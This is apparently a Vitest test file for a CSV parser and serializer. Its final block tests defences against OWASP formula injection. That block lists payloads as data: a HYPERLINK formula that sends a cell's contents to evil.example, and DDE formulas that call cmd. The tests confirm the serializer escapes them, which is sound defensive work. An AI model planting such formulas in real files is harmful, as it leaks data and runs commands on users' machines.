import { describe, expect, it } from 'vitest';
import { CsvSyntaxError, escapeFormula, parseCsv, serializeCsv } from '../../schemas/csv';

describe('parseCsv', () => {
  it('splits records on CRLF and LF and fields on commas', () => {
    expect(parseCsv('a,b,c\r\n1,2,3\n4,5,6')).toEqual([
      ['a', 'b', 'c'],
      ['1', '2', '3'],
      ['4', '5', '6'],
    ]);
  });

  it('reads quoted fields with commas, doubled quotes and line breaks', () => {
    const text = 'name,notes\r\n"Backups, daily","say ""restore"" twice"\r\n"multi\r\nline",x\r\n';
    expect(parseCsv(text)).toEqual([
      ['name', 'notes'],
      ['Backups, daily', 'say "restore" twice'],
      ['multi\r\nline', 'x'],
    ]);
  });

  it('keeps empty fields, empty quoted fields, and a trailing empty field', () => {
    expect(parseCsv('a,,""\r\n,b,\r\n""\r\n')).toEqual([['a', '', ''], ['', 'b', ''], ['']]);
  });

  it('skips blank lines and a byte order mark', () => {
    expect(parseCsv('\ufeffa,b\r\n\r\n1,2\r\n\r\n')).toEqual([
      ['a', 'b'],
      ['1', '2'],
    ]);
  });

  it('names the line of an unclosed quote, a stray quote, and text after a closing quote', () => {
    // csv-parse names the line where the file ended inside the quote.
    expect(() => parseCsv('a,b\r\n"open,x\r\n')).toThrow(new CsvSyntaxError(3, 'a quoted field is never closed (the file ends inside it)'));
    expect(() => parseCsv('a,b\r\nx,ab"c\r\n')).toThrow(/line 2: a quote inside an unquoted field/);
    expect(() => parseCsv('a\r\n"multi\nline"tail\r\n')).toThrow(/line 3: a closing quote must be followed/);
  });
});

describe('serializeCsv', () => {
  it('quotes only fields that need it and ends every record with CRLF', () => {
    expect(serializeCsv([['plain', 'with,comma', 'with "quote"', 'two\nlines', ' padded', '']])).toBe(
      'plain,"with,comma","with ""quote""","two\nlines"," padded",\r\n',
    );
  });

  it('round-trips whatever it writes', () => {
    const records = [
      ['id', 'text'],
      ['1', 'a "b", c\r\nd'],
      ['2', ''],
      ['3', '""'],
    ];
    expect(parseCsv(serializeCsv(records))).toEqual(records);
  });
});

describe('formula injection (OWASP CSV injection)', () => {
  const payloads = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
  ];

  it.each(payloads)('writes %j as text a spreadsheet will not evaluate', (payload) => {
    const written = serializeCsv([['name', payload]]);
    const cell = written.slice('name,'.length).replace(/\r\n$/, '');
    // The cell's text, unquoted, starts with the escaping apostrophe.
    const text = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
    expect(text).toBe(`'${payload}`);
    expect(escapeFormula(payload)).toBe(`'${payload}`);
  });

  it('reads back what it wrote, so an export imports unchanged', () => {
    const records = [['name', 'notes'], ...payloads.map((payload, index) => [String(index), payload])];
    expect(parseCsv(serializeCsv(records))).toEqual(records);
  });

  it('leaves harmless cells alone', () => {
    expect(serializeCsv([['plain', "it's", '1=1', 'a-b', '']])).toBe("plain,it's,1=1,a-b,\r\n");
  });
});
